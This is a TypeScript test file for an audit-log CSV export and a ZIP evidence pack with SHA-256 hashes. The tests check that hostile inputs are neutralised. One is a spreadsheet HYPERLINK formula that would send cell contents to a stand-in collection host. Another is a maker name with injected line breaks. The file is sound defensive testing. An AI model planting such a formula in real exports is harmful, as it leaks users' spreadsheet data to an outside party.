import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import JSZip from 'jszip';
import { describe, expect, it } from 'vitest';
import { buildAuditEntries } from '#fixtures/build/auditEntry.ts';
import { auditEntries } from '#fixtures/build/samples.ts';
import { resetNumbers } from '#fixtures/build/sequence.ts';
import type { AuditEntry } from '#src/api/types/auditEntry.ts';
import { type Evidence, evidencePack } from '#src/features/audit-log/files/evidencePack.ts';
import { logColumns } from '#src/features/audit-log/files/logColumns.ts';
import { exportRows } from '#src/features/shared/list/export/exportRows.ts';

const header =
  'Timestamp,User,Action,Details,Category,Result,Error Message,Resource ID,IP Address,User Agent,Portal,Session ID';

function optionsAndRecord(signal = new AbortController().signal) {
  const shares: number[] = [];
  let pauses = 0;
  const pause = () => {
    pauses += 1;
    return Promise.resolve();
  };
  return {
    options: { signal, onProgress: (share: number) => void shares.push(share), pause },
    shares,
    pauses: () => pauses,
  };
}

/** A CSV read by another library, split into header and rows. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = parse(text, { bom: true, record_delimiter: '\r\n' });
  expect(rows[0]?.join(',')).toBe(header);
  return rows.slice(1);
}

const expectedCells = (entry: AuditEntry) => [
  entry.timestamp,
  entry.user,
  entry.action,
  entry.details,
  entry.category,
  entry.result,
  entry.errorMessage ?? '',
  entry.resourceId ?? '',
  entry.ipAddress,
  // Inert in a spreadsheet.
  entry.userAgent.startsWith('=') ? `'${entry.userAgent}` : entry.userAgent,
  entry.portal,
  entry.sessionId,
];

describe('Export Logs', () => {
  it('is the CSV of section 7: its columns in order, ISO 8601, quoted, neutralised, lines that end in CRLF', async () => {
    const file = await exportRows(
      { name: 'audit-logs', format: 'csv', columns: logColumns, rows: auditEntries },
      optionsAndRecord().options,
    );
    const text = await file.text();
    expect(text.startsWith(`${header}\r\n`)).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text).toContain('"\'=HYPERLINK(""http://collect.example/?q=""&A1,""Mozilla"")"');
    expect(cellsOf(text)).toEqual(auditEntries.map(expectedCells));
  });
});

const evidence: Evidence = {
  entries: auditEntries,
  selected: false,
  filters: ['Category is Billing', 'IP Address is exactly "10.0.0.1"'],
  by: { name: 'Sara Khalil', email: 'superadmin@blume.example' },
  at: new Date('2026-11-21T09:00:00.000Z'),
};

async function unpacked(pack: Blob) {
  const zip = await JSZip.loadAsync(await pack.arrayBuffer(), { checkCRC32: true });
  const bytes = async (name: string) => (await zip.file(name)?.async('nodebuffer')) ?? Buffer.alloc(0);
  return {
    names: Object.keys(zip.files),
    bytes,
    text: async (name: string) => (await bytes(name)).toString('utf8'),
  };
}

describe('the evidence pack', () => {
  it('holds the entries as CSV and JSON, what it is, and the hashes', async () => {
    const { names, text } = await unpacked(await evidencePack(evidence, optionsAndRecord().options));
    expect(names).toEqual(['audit-logs.csv', 'audit-logs.json', 'about.txt', 'SHA256SUMS']);
    expect(cellsOf(await text('audit-logs.csv'))).toEqual(auditEntries.map(expectedCells));
    expect(JSON.parse(await text('audit-logs.json'))).toEqual(auditEntries);
    expect((await text('about.txt')).split('\n')).toEqual([
      'Evidence pack of the audit log, Blume Console',
      '',
      'Made by: "Sara Khalil", "superadmin@blume.example"',
      'Made at: 2026-11-21T09:00:00.000Z',
      `Holds: ${auditEntries.length} records, all that match the filters`,
      'Filters:',
      '- Category is Billing',
      '- IP Address is exactly "10.0.0.1"',
      '',
      'audit-logs.csv has the columns of Export Logs, audit-logs.json every field.',
      'To check that no file was changed: sha256sum -c SHA256SUMS',
      '',
    ]);
  });

  it('has the right hash of each file, in the format of sha256sum -c', async () => {
    const { bytes, text } = await unpacked(await evidencePack(evidence, optionsAndRecord().options));
    const lines = (await text('SHA256SUMS')).split('\n');
    expect(lines.pop()).toBe('');
    const sums = await Promise.all(
      ['audit-logs.csv', 'audit-logs.json', 'about.txt'].map(
        async (name) =>
          `${createHash('sha256')
            .update(await bytes(name))
            .digest('hex')}  ${name}`,
      ),
    );
    expect(lines).toEqual(sums);
  });

  it('states that its records were selected, and that no filter was set', async () => {
    const pack = await evidencePack(
      { ...evidence, entries: auditEntries.slice(0, 1), selected: true, filters: [] },
      optionsAndRecord().options,
    );
    const { text } = await unpacked(pack);
    expect(await text('about.txt')).toContain('Holds: 1 record, selected by hand\nFilters:\n- none\n');
  });

  it('quotes the name and the email of its maker, so that they cannot add a line', async () => {
    const by = {
      name: 'Sara\nMade by: Omar <omar@blume.example>\u2028Holds: 3 records\u202e',
      email: 'sara@blume.example\r\nFilters:\n- none',
    };
    const { text } = await unpacked(await evidencePack({ ...evidence, by }, optionsAndRecord().options));
    const lines = (await text('about.txt')).split(/[\n\r\u2028\u2029\u0085]/u);
    expect(lines).toHaveLength(12);
    expect(lines[2]).toBe(
      'Made by: "Sara\\nMade by: Omar <omar@blume.example>\\u2028Holds: 3 records\\u202e", ' +
        '"sara@blume.example\\r\\nFilters:\\n- none"',
    );
  });

  it.each(['0000-01-01T00:00:00Z', '1970-01-01T00:00:00Z', '2100-01-01T12:00:00Z', '9999-12-31T23:59:59Z'])(
    'can be made when the clock says %s, a year that a ZIP cannot hold',
    async (clock) => {
      const at = new Date(clock);
      const { text } = await unpacked(await evidencePack({ ...evidence, at }, optionsAndRecord().options));
      expect(await text('about.txt')).toContain(`Made at: ${at.toISOString()}`);
    },
  );

  it('can be made of no entries', async () => {
    const { text } = await unpacked(
      await evidencePack({ ...evidence, entries: [] }, optionsAndRecord().options),
    );
    expect(JSON.parse(await text('audit-logs.json'))).toEqual([]);
    expect(cellsOf(await text('audit-logs.csv'))).toEqual([]);
  });

  it('of 10,000 entries is complete, made in small pieces, and reports its progress', async () => {
    resetNumbers();
    const entries = buildAuditEntries(10_000);
    const { options, shares, pauses } = optionsAndRecord();
    const { text } = await unpacked(await evidencePack({ ...evidence, entries }, options));
    expect(cellsOf(await text('audit-logs.csv'))).toHaveLength(10_000);
    // As texts: comparing so many objects takes seconds.
    const json: unknown = JSON.parse(await text('audit-logs.json'));
    expect(JSON.stringify(json) === JSON.stringify(entries)).toBe(true);
    // CSV by 500, JSON by 250, and the ZIP by pieces of bytes.
    expect(pauses()).toBeGreaterThan(20 + 40 + 20);
    expect(shares).toEqual(shares.toSorted((a, b) => a - b));
    expect(shares.at(-1)).toBeLessThanOrEqual(1);
    // Two seconds of reading back, several times that on a busy machine.
  }, 30_000);

  it('can be cancelled', async () => {
    const abort = new AbortController();
    const { options } = optionsAndRecord(abort.signal);
    const pack = evidencePack(evidence, { ...options, onProgress: (share) => share > 0.5 && abort.abort() });
    await expect(pack).rejects.toThrow('aborted');
  });
});
